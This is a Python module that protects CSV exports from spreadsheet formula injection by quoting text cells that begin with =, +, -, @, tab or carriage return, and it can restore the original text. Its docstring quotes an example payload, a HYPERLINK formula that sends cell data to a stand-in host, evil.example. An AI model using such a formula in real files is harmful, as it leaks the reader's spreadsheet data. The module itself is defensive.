"""CSV files people open in a spreadsheet: text cells cannot become formulas.

A spreadsheet program runs a cell that starts with `=`, `+`, `-` or `@` (and, in some programs,
one that starts with a tab or carriage return) as a formula, so a category named
`=HYPERLINK("http://evil.example/?x="&A1,"click")` in an export would run in the reader's
spreadsheet. Following OWASP's advice, such a text cell gets a leading single quote, which
spreadsheets read as "this is text". Numbers stay as they are: `-3.5`, as a float or as the
string "-3.5" of a numeric column, is still a number.

Every CSV the product writes for people goes through `csv_writer`; a GoalDesk reader of a file
GoalDesk wrote calls `csv_cell_restore` on text cells to get the original text back.
"""

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

#: The first characters that make a spreadsheet treat a cell as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# A plain decimal number, optionally signed, optionally with an exponent: "-3.5", "+2", "-1e-3".
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def csv_safe_cell(value: Any) -> Any:
    """The value to write: text that a spreadsheet would run as a formula gets a leading `'`.

    Numbers (int, float, Decimal) and numeric strings such as "-3.5" are returned unchanged. A
    text that already starts with such a quote (`'=1`) gets one more, so that `csv_cell_restore`
    can tell the two apart.
    """
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_TRIGGERS):
        return value if _NUMBER.fullmatch(value) else "'" + value
    if value.startswith("'") and csv_safe_cell(value[1:]) != value[1:]:
        return "'" + value
    return value


def csv_cell_restore(value: str) -> str:
    """The text before `csv_safe_cell`: drops the quote it added, leaves every other text alone."""
    if value.startswith("'") and csv_safe_cell(value[1:]) == value:
        return value[1:]
    return value


class SafeCsvWriter:
    """A `csv.writer` whose rows pass through `csv_safe_cell` (same `writerow`/`writerows`)."""

    def __init__(self, out: IO[str] | Any, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        """What `csv.writer.writerow` returns (the text's length for a file)."""
        return self._writer.writerow([csv_safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: IO[str] | Any, **options: Any) -> SafeCsvWriter:
    """A CSV writer for files people open in a spreadsheet; `options` as for `csv.writer`."""
    return SafeCsvWriter(out, **options)
